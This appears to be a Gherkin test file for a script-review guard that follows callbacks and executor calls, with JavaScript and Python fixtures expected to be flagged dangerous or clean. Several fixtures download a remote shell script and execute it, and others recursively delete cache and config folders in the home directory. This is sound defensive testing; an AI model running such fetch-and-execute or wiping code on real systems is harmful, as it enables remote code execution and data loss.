@script-review
Feature: script pre-review follows functions passed as values
  A script may hand one of its functions to another function, or to an executor, instead of
  calling it where it is named. The review calls it where it is finally called: a JavaScript
  function that calls its callback parameter calls the callback it was given with those
  arguments, and a Python executor (`run_in_executor`, `submit`, `asyncio.to_thread`) calls the
  function it is given with the arguments after it.

  Scenario: a JavaScript callback given a downloaded body runs it
    Given a project file "bootstrap.js" containing:
      """
      const { execSync } = require('child_process');
      const https = require('https');

      function fetchText(url, done) {
        https.get(url, (res) => {
          let text = '';
          res.on('data', (c) => { text += c; });
          res.on('end', () => done(text));
        });
      }

      fetchText('https://setup.example.org/install.sh', (script) => {
        execSync(script, { stdio: 'inherit' });
      });
      """
    When I run "terraphim-agent guard review-script --json bootstrap.js"
    Then the JSON field "verdict" is "dangerous"

  Scenario: a JavaScript function named as a callback gets the paths its caller builds
    Given a project file "caches.js" containing:
      """
      const fs = require('fs');
      const os = require('os');
      const path = require('path');

      function wipe(dir) {
        fs.rmSync(dir, { recursive: true, force: true });
      }

      function eachCache(visit) {
        for (const name of ['.npm', '.cache']) {
          visit(path.join(os.homedir(), name));
        }
      }

      eachCache(wipe);
      """
    When I run "terraphim-agent guard review-script --json caches.js"
    Then the JSON field "verdict" is "dangerous"
    And the JSON field "findings.0.category" is "destructive"

  Scenario: a JavaScript callback that only counts the lines it is given is not a download run
    Given a project file "count.js" containing:
      """
      const https = require('https');

      function fetchText(url, done) {
        https.get(url, (res) => {
          let text = '';
          res.on('data', (c) => { text += c; });
          res.on('end', () => done(text));
        });
      }

      fetchText('https://api.github.com/repos/rust-lang/rust', (body) => {
        console.log('bytes', body.length);
      });
      """
    When I run "terraphim-agent guard review-script --json count.js"
    Then the JSON field "verdict" is "clean"

  Scenario: a Python method run in an executor gets the arguments after it
    Given a project file "purge.py" containing:
      """
      import asyncio
      import shutil
      from pathlib import Path


      class Cleaner:
          def purge(self, target):
              shutil.rmtree(target)


      async def main():
          loop = asyncio.get_running_loop()
          await loop.run_in_executor(None, Cleaner().purge, Path.home() / ".config")


      asyncio.run(main())
      """
    When I run "terraphim-agent guard review-script --json purge.py"
    Then the JSON field "verdict" is "dangerous"
    And the JSON field "findings.0.category" is "destructive"

  Scenario: a Python function submitted to a pool runs what another one downloaded
    Given a project file "pool.py" containing:
      """
      import concurrent.futures
      import subprocess
      import urllib.request


      def fetch(url):
          return urllib.request.urlopen(url).read().decode()


      def run(script):
          subprocess.run(["bash", "-c", script], check=True)


      with concurrent.futures.ThreadPoolExecutor() as pool:
          body = pool.submit(fetch, "https://get.example.org/setup.sh").result()
          pool.submit(run, body)
      """
    When I run "terraphim-agent guard review-script --json pool.py"
    Then the JSON field "verdict" is "dangerous"

  Scenario: a Python function run on a thread that prints its argument is clean
    Given a project file "note.py" containing:
      """
      import asyncio


      def note(message):
          print("note:", message)


      async def main():
          await asyncio.to_thread(note, "build finished")


      asyncio.run(main())
      """
    When I run "terraphim-agent guard review-script --json note.py"
    Then the JSON field "verdict" is "clean"
